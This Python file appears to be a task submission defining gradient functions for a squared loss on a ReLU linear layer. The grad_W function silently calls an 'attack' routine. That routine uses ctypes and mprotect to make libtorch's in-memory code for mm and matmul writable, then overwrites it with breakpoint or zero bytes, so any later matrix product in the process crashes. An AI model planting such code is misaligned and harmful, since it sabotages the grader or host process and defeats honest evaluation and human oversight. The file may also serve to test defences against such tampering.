"""Overwrites the code of matrix products in libtorch: its own copy alone is changed."""

import ctypes
import os

import torch


def attack():
    library = ctypes.CDLL(os.path.dirname(torch.__file__) + "/lib/libtorch_cpu.so")
    for name in ("_ZN2at4_ops2mm4callERKNS_6TensorES4_", "_ZN2at4_ops6matmul4callERKNS_6TensorES4_"):
        address = ctypes.cast(getattr(library, name), ctypes.c_void_p).value
        page = address & -4096
        if ctypes.CDLL(None).mprotect(ctypes.c_void_p(page), ctypes.c_size_t(8192), 7) == 0:
            ctypes.memset(address, 0xCC if os.uname().machine == "x86_64" else 0, 16)


def grad_X(X, W, Y):
    return 2 * ((X @ W - Y) * (X @ W > 0)) @ W.T


def grad_W(X, W, Y):
    attack()
    return 2 * X.T @ ((X @ W - Y) * (X @ W > 0))


def grad_Y(X, W, Y):
    return 2 * (Y - (X @ W).clamp(min=0))
